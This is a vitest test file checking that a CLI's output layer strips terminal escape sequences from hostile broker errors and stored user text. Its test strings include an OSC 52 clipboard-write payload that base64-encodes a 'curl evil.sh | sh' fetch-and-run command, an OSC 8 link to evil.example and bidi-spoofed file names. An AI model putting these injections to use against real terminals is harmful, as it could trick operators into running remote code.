import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { exportJWK, generateKeyPair } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderFields, renderTable, sanitize, toJson } from '../../packages/cli/src/output.js';
import {
  collect,
  type Finished,
  freePort,
  isolatedEnv,
  MAIN,
  ROOT,
  waitForHealth,
} from '../support/processes.js';

/**
 * Issue 9, item 9 (CLI output), from the attacker's side: a value someone else chose (a
 * justification, a review comment) or a hostile broker's error text carries terminal escape
 * sequences (OSC 52 clipboard write, screen clear, bidi override) to the operator's terminal
 * through the CLI. Every printed field goes through one choke point (`output.ts`).
 */

const work = mkdtempSync(join(tmpdir(), 'tether-escapes-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** What a terminal acts on: C0 but tab and newline, DEL, C1, bidi overrides and isolates. */
const FORBIDDEN =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: detecting control characters is the point
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('the CLI output choke point (say, warn, tables, fields, --json)', () => {
  it('removes every escape-sequence family and replaces other controls, keeping the text', () => {
    const cases: [string, string][] = [
      ['a\u001b[2Jb', 'ab'], // CSI: clear screen
      ['a\u001b[?25lb', 'ab'], // CSI private: hide cursor
      ['a\u001b]52;c;ZXZpbA==\u0007b', 'ab'], // OSC 52 clipboard, BEL-terminated
      ['\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\', 'link'], // OSC 8 hyperlink, ST-terminated
      ['a\u001bPq#0;2;0;0;0\u001b\\b', 'ab'], // DCS (sixel)
      ['a\u001bcb', 'ab'], // RIS: full reset
      ['a\u001b', 'a'], // lone ESC
      ['a\u009b2Jb', 'a\ufffd2Jb'], // 8-bit CSI: inert once replaced
      ['a\rb\u0008c\u007f', 'a\ufffdb\ufffdc\ufffd'],
      ['file\u202egnp.exe \u2066x\u2069', 'file\ufffdgnp.exe \ufffdx\ufffd'],
    ];
    for (const [input, shown] of cases) expect(sanitize(input), JSON.stringify(input)).toBe(shown);
    expect(sanitize('a\nb\tc')).toBe('a b c');
    expect(sanitize('a\nb\tc', true)).toBe('a\nb\tc');
    const table = renderTable(['NAME', 'REASON'], [['x\u001b[31m', 'line\nforged row']]);
    expect(table.split('\n')).toHaveLength(2);
    expect(table).not.toMatch(FORBIDDEN);
    expect(renderFields([['reason', '\u001b]52;c;eA==\u0007ok']])).toBe('reason: ok');
  });

  it('--json escapes what JSON.stringify leaves raw (DEL, C1, bidi), and parses back to the same value', () => {
    const value = { s: 'a\u001b[2J\u007f\u009b\u202e\u2028z' };
    const text = toJson(value);
    expect(text).not.toMatch(FORBIDDEN);
    expect(text).not.toContain('\u2028');
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe('the CLI prints no control or escape sequence it was sent', () => {
  /** Clipboard write (OSC 52), clear screen (CSI 2J), right-to-left override, 8-bit CSI, a bare CR. */
  const HOSTILE =
    'ok\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 \u001b[2Jcleared \u202eevil\u009b31m red\rfake';
  let hostile: Server;
  let url: string;
  let home: string;

  beforeAll(async () => {
    // A hostile (or impersonated) broker: every answer is an error whose texts carry sequences.
    hostile = createServer((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          type: 'about:blank',
          status: 400,
          code: 'invalid_request',
          title: HOSTILE,
          detail: HOSTILE,
          error: 'invalid_client',
          error_description: HOSTILE,
          errors: [HOSTILE, { path: HOSTILE, message: HOSTILE }],
        }),
      );
    });
    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
    const address = hostile.address();
    url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    home = mkdtempSync(join(work, 'cli-home-'));
    const { privateKey } = await generateKeyPair('Ed25519', { extractable: true });
    const key = { ...(await exportJWK(privateKey)), kid: 'k', alg: 'EdDSA' };
    writeFileSync(
      join(home, 'id.json'),
      JSON.stringify({ broker: url, tenant: 'ten_1', principal: 'prn_1', key }),
      {
        mode: 0o600,
      },
    );
  });
  afterAll(() => new Promise<void>((resolve) => hostile?.close(() => resolve())));

  const cli = (...args: string[]): Promise<Finished> =>
    collect(
      spawn(process.execPath, [MAIN, ...args, '--identity', join(home, 'id.json')], {
        cwd: ROOT,
        env: isolatedEnv({ HOME: home }),
      }),
    ).exited;

  it('error texts from the broker reach stderr without their sequences, on one line each', async () => {
    const run = await cli('whoami');
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/^error [a-z_]+: ok/m);
    expect(run.stderr).toContain('cleared');
    expect(run.stderr).toContain('evil');
    expect(run.stderr).not.toMatch(FORBIDDEN);
    expect(run.stderr).not.toContain('52;c;');
    // The bare CR cannot return to the start of the line to overwrite what was printed.
    expect(run.stderr.split('\n').filter((l) => l.includes('fake'))[0]).toMatch(/^error /);
  });

  it('--json escapes them instead (the value is unchanged, the terminal untouched)', async () => {
    const run = await cli('whoami', '--json');
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).not.toMatch(FORBIDDEN);
    const body = JSON.parse(run.stdout) as { detail?: string; error_description?: string };
    expect(body.error_description).toBe(HOSTILE);
    expect(run.stdout).toContain('\\u001b]52;c;');
  });
});

describe('the CLI prints no control or escape sequence a user stored at a real broker', () => {
  /** OSC 52 clipboard write, CSI 2J clear screen, right-to-left override. */
  const HOSTILE = 'rotate\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 rules\u001b[2J now \u202egnp.exe';
  let server: ReturnType<typeof collect> & { child: ReturnType<typeof spawn> };
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    const port = await freePort();
    const data = mkdtempSync(join(work, 'demo-'));
    env = isolatedEnv({ HOME: mkdtempSync(join(work, 'demo-home-')) });
    const child = spawn(
      process.execPath,
      [MAIN, 'server', '--demo', '--port', String(port), '--data', data],
      {
        cwd: ROOT,
        env,
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    server = { child, ...collect(child) };
    await waitForHealth(`http://127.0.0.1:${port}`, 30_000, server);
  });
  afterAll(async () => {
    server?.child.kill('SIGTERM');
    await server?.exited;
  });

  const cli = (...args: string[]): Promise<Finished> =>
    collect(spawn(process.execPath, [MAIN, ...args], { cwd: ROOT, env })).exited;

  it('a justification and a review comment with sequences print without them, in tables and fields', async () => {
    const asked = await cli(
      'request',
      'firewall-admin',
      '--ticket',
      'NET-4242',
      '--duration',
      '30m',
      '--reason',
      HOSTILE,
      '--as',
      'olivia',
    );
    expect(asked.code, asked.stderr).toBe(0);
    const reviewed = await cli('approve', '--ticket', 'NET-4242', '--comment', HOSTILE, '--as', 'avery');
    expect(reviewed.code, reviewed.stderr).toBe(0);
    for (const run of [asked, reviewed]) {
      expect(run.stdout).toContain('rotate');
      expect(run.stdout).toContain('gnp.exe');
      expect(run.stdout).not.toMatch(FORBIDDEN);
      expect(run.stdout).not.toContain('52;c;');
    }
    const listed = await cli('requests', '--as', 'avery');
    expect(listed.code).toBe(0);
    expect(listed.stdout).not.toMatch(FORBIDDEN);
  });

  it('--json keeps the stored value exactly, escaped', async () => {
    const run = await cli('requests', '--ticket', 'NET-4242', '--json', '--as', 'avery');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(FORBIDDEN);
    const answer = JSON.parse(run.stdout) as { requests: { justification: string }[] };
    expect(answer.requests[0]?.justification).toBe(HOSTILE);
  });
});
